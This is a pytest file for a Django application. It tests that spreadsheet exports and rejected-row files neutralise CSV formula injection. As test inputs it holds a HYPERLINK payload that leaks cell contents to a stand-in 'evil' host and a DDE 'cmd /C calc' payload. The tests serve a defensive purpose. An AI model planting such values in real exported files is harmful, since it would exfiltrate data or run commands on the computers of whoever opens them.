"""No value typed by a user becomes a formula in an exported spreadsheet (OWASP CSV injection):
list exports (CSV and XLSX), background exports and rejected-row files."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tdc.core.exports import export_cell, xlsx_bytes
from tdc.registry.imports import OrganisationImport
from tdc.testing.factories import COMMUNE_A, PROVINCE_A, OrganisationFactory
from tdc.testing.fixtures import api_client_for, client_for

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil/?"&A1,"x")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+84 901", "'+84 901"),
        ("-SN-001", "'-SN-001"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Cột đo = 2", "Cột đo = 2"),
        (-12, -12),
        (Decimal("-1.5"), Decimal("-1.5")),
        (3.25, 3.25),
        (None, ""),
    ],
)
def test_it_neutralises_cells_that_begin_like_a_formula(value: Any, expected: Any) -> None:
    assert export_cell(value) == expected


def test_it_writes_text_as_text_and_numbers_as_numbers_in_xlsx() -> None:
    content = xlsx_bytes("t", ["a", "b"], [[PAYLOAD, Decimal("-2.5")]])
    xml = _sheet_xml(content)
    assert "<f>" not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "'" + PAYLOAD
    assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"


def test_it_exports_a_planted_serial_number_harmlessly(officer_a: Any) -> None:
    owner = OrganisationFactory(province_id=PROVINCE_A, commune_id=COMMUNE_A)
    created = api_client_for(officer_a).post(
        "/api/v1/metrology/instruments/",
        {
            "owner": owner.pk,
            "type_code": "fuel-dispenser",
            "manufacturer": "Tatsuno",
            "serial_number": PAYLOAD,
            "province": PROVINCE_A,
            "commune": COMMUNE_A,
        },
        format="json",
    )
    assert created.status_code == 201, created.content
    client = client_for(officer_a)

    xlsx = client.get("/metrology/instruments/", {"_export": "xlsx"}).content
    assert "<f>" not in _sheet_xml(xlsx)
    values = [c for row in openpyxl.load_workbook(io.BytesIO(xlsx)).active.values for c in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values

    response = client.get("/metrology/instruments/", {"_export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells


def test_it_neutralises_background_exports(
    officer_a: Any, settings: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from tdc.core.models import JobProgress

    settings.TDC_SYNC_EXPORT_LIMIT = 1
    OrganisationFactory.create_batch(2, province_id=PROVINCE_A, name="=cmd|' /C calc'!A0")
    with django_capture_on_commit_callbacks(execute=True):
        client_for(officer_a).get("/organisations/", {"_export": "xlsx"})
    job = JobProgress.objects.get()
    content = job.result_file.open("rb").read()
    assert "<f>" not in _sheet_xml(content)
    names = [r[0] for r in openpyxl.load_workbook(io.BytesIO(content)).active.values][1:]
    assert names == ["'=cmd|' /C calc'!A0"] * 2


def test_it_neutralises_the_rejected_rows_file(officer_a: Any) -> None:
    headers = ";".join(c.header for c in OrganisationImport.columns)
    width = len(OrganisationImport.columns)
    row = ";".join(["=1+1", "@bad", *[""] * (width - 2)])  # an unknown kind: rejected
    content = f"{headers}\n{row}\n".encode()
    client = client_for(officer_a)
    response = client.post(
        reverse("registry:organisation_import"),
        {"file": SimpleUploadedFile("x.csv", content)},
    )
    job_id = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    response = client.get(reverse("core:import_rejected", args=[job_id]))
    rejected = b"".join(response.streaming_content)
    assert "<f>" not in _sheet_xml(rejected)
    row = next(
        openpyxl.load_workbook(io.BytesIO(rejected)).active.iter_rows(min_row=2, values_only=True)
    )
    assert row[1] == "'=1+1" and row[2] == "'@bad"
